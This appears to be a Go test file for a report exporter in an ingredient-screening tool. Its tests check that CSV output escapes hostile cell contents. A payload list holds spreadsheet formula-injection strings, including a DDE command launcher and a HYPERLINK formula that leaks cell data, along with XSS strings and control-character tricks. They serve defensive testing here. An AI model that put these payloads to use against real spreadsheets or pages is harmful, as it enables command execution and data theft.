package reports

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"screen/pipeline"
	"screen/rules"
)

// payloads are texts that attack or break readers of reports: formulas, markup, control characters, broken encoding.
var payloads = []string{
	"=1+1", "=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1+1", "＠A1", " =1+1", "=\"a\"\"b\"",
	`=HYPERLINK("http://example.invalid/?"&A1,"x")`, "=1,=2", "'=1", `"=1"`, `"`, `""`, ",", ";", "\r\n", "a\nb", "|", "a|b",
	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "' onmouseover='alert(1)", "javascript:alert(1)", "</style><script>x</script>",
	"</td></tr></table><h1>", "<!--", "-->", "]]>", "&lt;script&gt;", "&#60;script&#62;", "${alert(1)}", "{{.}}", "<svg/onload=alert(1)>", "</title><script>",
	"[x](javascript:alert(1))", "![x](http://example.invalid/x.png)", "`code`", "**bold**", "# heading", "<http://example.invalid>", "http://example.invalid",
	"\x00", "\x1b[31m", "\x7f", "\xff\xfe", "\xed\xa0\x80", "\u2028", "\u202Ecod.exe", "\uFEFF=1", "_x000D_", "_x0041_", "é", "히알루론산", "😀", "",
	"-5", "+3.5", "-5,5 %", "12%", "-", "+", "--", "1.2.3", "00123", "1e10", "-1e10",
}

func TestFormulaInjection(t *testing.T) {
	for _, c := range []struct {
		cell   string
		escape bool
	}{
		{"=1+1", true}, {"+1+cmd", true}, {"-2+3", true}, {"@SUM(A1)", true}, {"\t=1", true}, {"\r=1", true}, {"\n=1", true},
		{"＝1", true}, {"＋1+1", true}, {"－1", true}, {"＠A1", true}, {"  =1", true}, {"=", true}, {"-1e10", true}, {"-.5.", true},
		{"-5", false}, {"+3.5", false}, {"-5%", false}, {"-1,234.50", false}, {"-", false}, {"+", false},
		{"", false}, {" ", false}, {"a=b", false}, {"'=1", false}, {"Retinol", false}, {"é", false}, {"\"=1\"", false},
	} {
		if got := opensFormula([]byte(c.cell)); got != c.escape {
			t.Errorf("opensFormula(%q) = %v", c.cell, got)
		}
	}
}

// Whatever a catalog holds, the CSV reads back as that, with an apostrophe where it opens a formula, and U+FFFD for
// bytes that are no text.
func TestCSVReadsBack(t *testing.T) {
	set := testSet()
	for _, raw := range []bool{false, true} {
		for _, payload := range payloads {
			rows := readCSV(t, report(t, "csv", set, Options{Raw: raw}, hostile(set, payload)))
			want := strings.ReplaceAll(strings.ToValidUTF8(payload, "\uFFFD"), "\x00", "\uFFFD")
			if !raw && opensFormula([]byte(want)) {
				want = "'" + want
			}
			want = strings.ReplaceAll(want, "\r\n", "\n") // as encoding/csv reads
			for _, column := range []string{"source", "sheet", "id", "brand", "name", "price"} {
				if got := rows[0][column]; got != want {
					t.Errorf("raw %v, %q in %s: got %q, want %q", raw, payload, column, got, want)
				}
			}
			for column, cell := range rows[0] {
				if !raw && opensFormula([]byte(cell)) {
					t.Errorf("%q: column %s opens a formula: %q", payload, column, cell)
				}
			}
		}
	}
}

// readCSV reads a report by its header.
func readCSV(t *testing.T, b []byte) []map[string]string {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("%v in %q", err, b)
	}
	var rows []map[string]string
	for _, record := range records[1:] {
		row := map[string]string{}
		for i, cell := range record {
			row[records[0][i]] = cell
		}
		rows = append(rows, row)
	}
	return rows
}

func FuzzCSVCell(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := newCSV(nil, &layout{set: testSet()}, false)
		cell := c.field(append(c.field(nil, "before"), ','), s)
		record, err := csv.NewReader(bytes.NewReader(append(cell, ",after\n"...))).Read()
		if err != nil || len(record) != 3 || record[0] != "before" || record[2] != "after" {
			t.Fatalf("%q is written as %q, read as %q, %v", s, cell, record, err)
		}
		if opensFormula([]byte(record[1])) {
			t.Fatalf("%q opens a formula: %q", s, record[1])
		}
	})
}

func TestEscapedCellsAreCounted(t *testing.T) {
	set := testSet()
	r := cleanSerum(set)
	r.Name, r.Brand = "=1+1", "@x"
	for raw, want := range map[bool]string{false: "apostrophe before them: 2 ", true: ""} {
		var out bytes.Buffer
		sink, err := New("csv", &out, set, Options{Raw: raw})
		if err != nil {
			t.Fatal(err)
		}
		sink.Append(nil, r)
		got := strings.Join(Notes(sink), "\n")
		if !strings.Contains(got, want) || want == "" && got != "" {
			t.Errorf("raw %v: notes are %q", raw, got)
		}
	}
}

func TestReasons(t *testing.T) {
	set := testSet()
	l, err := newLayout(set, Options{})
	if err != nil {
		t.Fatal(err)
	}
	many := retinolSerum(set)
	for i := range many.List.Items {
		many.Findings = append(many.Findings, pipeline.Finding{Rule: ruleFragrance, Family: famFragrance, Item: i})
	}
	tool := listless(set)
	tool.Findings, tool.Decision = nil, decide(set)
	for c := range tool.Decision.Verdicts {
		tool.Decision.Verdicts[c] = rules.NotApplicable
	}
	for _, c := range []struct {
		r    *pipeline.Result
		want string
	}{
		{tool, "It is not put on treated skin."},
		{retinolSerum(set), "Retinoid: Retinol (5th); Fragrance: Parfum (6th), Linalool (7th); SPF below 30"},
		{cleanSerum(set), "Hyaluronic acid: Sodium Hyaluronate (2nd)"},
		{listless(set), "No readable ingredient list"},
		{many, "Retinoid: Retinol (5th); Fragrance: Parfum (6th), Linalool (7th), Aqua (1st), Glycerin (2nd), Sodium Hyaluronate (3rd) and 5 more; SPF below 30"},
	} {
		if got := string(l.appendReasons(nil, c.r)); got != c.want {
			t.Errorf("got  %s\nwant %s", got, c.want)
		}
	}
}

func TestAppendCSVAllocatesNothing(t *testing.T) {
	set := testSet()
	for _, format := range []string{"csv", "jsonl"} {
		sink, err := New(format, nil, set, Options{})
		if err != nil {
			t.Fatal(err)
		}
		r := retinolSerum(set)
		buf := make([]byte, 0, 1<<16)
		if n := testing.AllocsPerRun(100, func() { buf = sink.Append(buf[:0], r) }); n != 0 {
			t.Errorf("%s: %v allocations", format, n)
		}
	}
}
